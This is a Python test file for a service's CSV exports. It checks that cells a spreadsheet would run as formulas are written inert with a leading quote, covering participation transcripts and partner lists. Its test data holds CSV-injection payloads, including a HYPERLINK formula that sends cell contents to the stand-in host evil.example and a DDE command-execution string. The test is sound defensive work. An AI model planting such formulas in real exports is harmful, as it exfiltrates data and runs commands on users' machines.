"""Cells a spreadsheet would run as a formula are written inert, by one function, in every CSV export."""
from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from services.common.spreadsheet import inert, restored
from services.events import transcript
from services.partners import bulk

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-1+2",
           "\t=1", "\r=1"]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_formula_cell_is_written_with_a_leading_quote_and_read_back_as_it_was(cell):
    assert inert(cell) == "'" + cell
    assert restored(inert(cell)) == cell


@pytest.mark.parametrize("cell", ["Science and Art", "-12", "+86 10 1234", "", "科学与艺术讲座"])
def test_plain_text_and_numbers_are_left_as_they_are(cell):
    assert inert(cell) == cell and restored(cell) == cell


def test_the_participation_csv_writes_a_hostile_title_and_person_inert():
    """Defect: the participation CSV wrote a title such as =HYPERLINK(...) raw."""
    rows = [{"person_id": "@evil", "activity_id": "act_1", "title": {"zh": HOSTILE[0], "en": "x"},
             "date": "2026-12-05", "attended": True, "volunteer_hours": 0}]
    header, row = list(csv.reader(io.StringIO(transcript.to_csv(rows))))
    assert row[0] == "'@evil" and row[2] == "'" + HOSTILE[0]


def test_the_partners_csv_uses_the_same_function():
    partner = {"id": "prt_1", "status": "approved", "name": {"zh": HOSTILE[0]}, "level": "campus",
               "kind": "faculty", "registered_at": datetime(2026, 1, 1, tzinfo=UTC)}
    _, row = list(csv.reader(io.StringIO(bulk.export([partner]))))
    assert row[2] == inert(HOSTILE[0])
